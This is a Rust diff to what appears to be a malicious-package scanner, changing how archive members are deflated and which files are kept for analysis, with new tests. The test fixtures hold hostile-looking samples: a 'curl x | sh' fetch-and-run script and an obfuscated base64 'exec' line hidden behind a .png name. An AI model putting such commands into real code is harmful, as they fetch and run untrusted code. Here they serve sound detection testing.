@@ -97,30 +97,31 @@ pub struct Packed {
     len: usize,
 }
 
-/// Deflates members for one archive, reusing its compressor and scratch buffer: a
-/// compressor per member (a few hundred KB each, tens of thousands of members) leaves
-/// the heap full of holes that small allocations pin, and the resident size balloons.
+/// Deflates members for one archive, reusing its compressor and buffers: a compressor
+/// per member (a few hundred KB each, tens of thousands of members) leaves the heap full
+/// of holes that small allocations pin, and the resident size balloons.
+///
+/// Level 2, not 1: level 1 is zlib-rs's "quick" strategy, which panicked on some
+/// members (an overflow of its pending buffer; seen on a popular sdist).
 #[derive(Default)]
 pub struct Packer {
-    compress: Option<flate2::Compress>,
-    scratch: Vec<u8>,
+    encoder: Option<flate2::write::DeflateEncoder<Vec<u8>>>,
+    spare: Vec<u8>,
 }
 
 impl Packer {
     /// `data` deflated, or `None` when it does not shrink (it is then kept as it is).
     pub fn pack(&mut self, data: &[u8]) -> Option<Packed> {
-        use flate2::{Compress, Compression, FlushCompress, Status};
-        let compress = self.compress.get_or_insert_with(|| Compress::new(Compression::fast(), false));
-        compress.reset();
-        self.scratch.clear();
-        // deflate never grows data by more than 5 bytes per 16 KB block plus a little
-        self.scratch.reserve(data.len() + data.len() / 1000 + 64);
-        match compress.compress_vec(data, &mut self.scratch, FlushCompress::Finish) {
-            Ok(Status::StreamEnd) if self.scratch.len() < data.len() => {
-                Some(Packed { deflated: self.scratch.as_slice().to_vec(), len: data.len() })
-            }
-            _ => None,
-        }
+        use std::io::Write;
+        let encoder = self.encoder.get_or_insert_with(|| flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::new(2)));
+        // a fresh stream into the buffer the last member's output was copied from
+        let mut out = std::mem::take(&mut self.spare);
+        out.clear();
+        self.spare = encoder.reset(out).ok()?;
+        encoder.write_all(data).ok()?;
+        encoder.try_finish().ok()?;
+        let deflated = encoder.get_ref();
+        (deflated.len() < data.len()).then(|| Packed { deflated: deflated.as_slice().to_vec(), len: data.len() })
     }
 }
 
@@ -283,9 +284,10 @@ mod tests {
     }
 
     #[test]
-    fn text_hidden_behind_a_binary_extension_is_kept() {
+    fn extensionless_scripts_are_kept_other_names_only_when_read() {
+        // no analysis reads a .png, whatever it holds: hashed and measured only
         let (m, _) = run("pkg/logo.png", b"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))", 1000);
-        assert!(m.data.is_some());
+        assert!(m.data.is_none());
         let (m, _) = run("bin/tool", b"#!/bin/sh\ncurl x | sh\n", 1000);
         assert!(m.data.is_some());
     }
@@ -304,6 +306,55 @@ mod tests {
         let (m, _) = run("a.bin", b"abc", 1000);
         let hex = crate::hex::hex(&m.sha256);
         assert_eq!(hex, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
+    }
+
+    /// Text, high bytes, incompressible bytes, empty and large members all come back
+    /// intact (or stay unpacked when deflate cannot shrink them), with one packer.
+    #[test]
+    fn packed_members_round_trip() {
+        let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
+        let mut noise = |n: usize| -> Vec<u8> {
+            (0..n)
+                .map(|_| {
+                    state ^= state << 13;
+                    state ^= state >> 7;
+                    state ^= state << 17;
+                    state as u8
+                })
+                .collect()
+        };
+        let text = "def f(x):\n    return {'k': x, 'é': 'ünïcödé'}\n".repeat(20_000).into_bytes();
+        let high: Vec<u8> = noise(300_000).into_iter().map(|b| b | 0x80).collect();
+        let mixed = [text.clone(), noise(70_000), text[..5000].to_vec()].concat();
+        let mut packer = Packer::default();
+        let p = packer.pack(&text).expect("source code shrinks");
+        assert!(p.held_bytes() * 4 < text.len());
+        assert_eq!(p.unpack().as_deref(), Some(&text[..]));
+        for data in [high, noise(1 << 20), mixed, Vec::new(), b"x".to_vec(), noise(3), text] {
+            // what does not shrink stays as it is
+            if let Some(p) = packer.pack(&data) {
+                assert!(p.held_bytes() < data.len());
+                assert_eq!(p.unpack().as_deref(), Some(&data[..]));
+            }
+        }
+    }
+
+    #[test]
+    fn only_what_the_analysis_reads_is_kept() {
+        for kept in ["pkg/a.py", "pkg/B.PYW", "x.pth", "run.sh", "bin/tool", "pkg-1.0/PKG-INFO", "x.dist-info/RECORD", "pyproject.toml", "setup.cfg"] {
+            assert!(read_by_analysis(kept), "{kept}");
+        }
+        for dropped in ["pkg/data.json", "README.md", "src/x.c", "static/app.js", "notes.txt", "x.dist-info/entry_points.txt"] {
+            assert!(!read_by_analysis(dropped), "{dropped}");
+        }
+        let (m, _) = run("pkg/data.json", b"{\"a\": 1}", 1000);
+        assert!(m.data.is_none() && m.size == 8);
+        // a large JavaScript bundle is not kept, and not an alert either (see Collector)
+        let (m, big) = run("static/app.js", &[b'x'; 5000], 1000);
+        assert!(m.data.is_none() && big);
+        // text behind an MZ header stays readable for the PE check
+        let (m, _) = run("pkg/tool.exe", b"MZ this program cannot be run in DOS mode", 1000);
+        assert!(m.data.is_some());
     }
 
     #[test]
